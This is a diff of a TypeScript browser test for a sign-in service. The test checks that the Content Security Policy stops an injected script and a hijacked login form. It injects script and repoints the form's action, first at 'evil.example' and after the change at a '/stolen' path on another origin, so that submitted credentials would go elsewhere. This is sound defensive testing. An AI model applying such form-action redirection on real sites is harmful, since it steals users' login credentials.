@@ -18,8 +18,11 @@ const NEW = 'another long enough one';
 const ACCOUNT = '/passportsvc/api/accounts';
 
 /** Where the browser is sent in the end: any page that can be told from ours. */
-async function startApplication(): Promise<Server> {
-  const server = createServer((_request, response) => response.setHeader('content-type', 'text/html').end('<!DOCTYPE html><title>The application</title>'));
+async function startApplication(reached: string[]): Promise<Server> {
+  const server = createServer(({ url }, response) => {
+    reached.push(String(url));
+    response.setHeader('content-type', 'text/html').end('<!DOCTYPE html><title>The application</title>');
+  });
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
   return server;
 }
@@ -32,12 +35,13 @@ inChromium('the pages in a browser without scripts', (test) => {
   let inspector: Inspector;
   let house: Tenant;
   let plans: { readonly id: string; readonly redirectUri: string };
+  const reached: string[] = [];
   let unique = 0;
 
   beforeAll(async () => {
     mail = await FakeMailServer.start();
     passport = await startPassport({ SMTP_URL: mail.url, MAIL_POLL_MS: 20 });
-    application = await startApplication();
+    application = await startApplication(reached);
     const redirectUri = `http://127.0.0.1:${(application.address() as AddressInfo).port}/callback`;
     plans = { id: (await registerApp(passport, { firstParty: false, name: 'Plans', redirectUris: [redirectUri] })).id, redirectUri };
     house = await newTenant(passport, 'House');
@@ -276,12 +280,19 @@ inChromium('the pages in a browser without scripts', (test) => {
       const script = document.createElement('script');
       script.textContent = 'document.title = "taken over"';
       document.body.append(script);
-      document.forms[0].action = 'https://evil.example/';
+    }`);
+    expect(await page.title()).toBe('Sign in · Twinyard');
+    // The server of the application under a name that is none of its origins.
+    const elsewhere = `${new URL(plans.redirectUri).origin.replace('127.0.0.1', 'localhost')}/stolen`;
+    await page.evaluate(`{
+      document.forms[0].action = '${elsewhere}';
       document.forms[0].submit();
     }`);
     await eventually(() => expect(refusals.filter((text) => text.includes('Content Security Policy')).length).toBeGreaterThanOrEqual(2));
-    expect(await page.title()).toBe('Sign in · Twinyard');
-    expect(new URL(page.url()).origin).toBe(passport.baseUrl);
+    expect(reached).not.toContain('/stolen');
+    const other = await context.newPage();
+    await other.goto(elsewhere);
+    expect(reached).toContain('/stolen');
     await context.close();
   });
 });
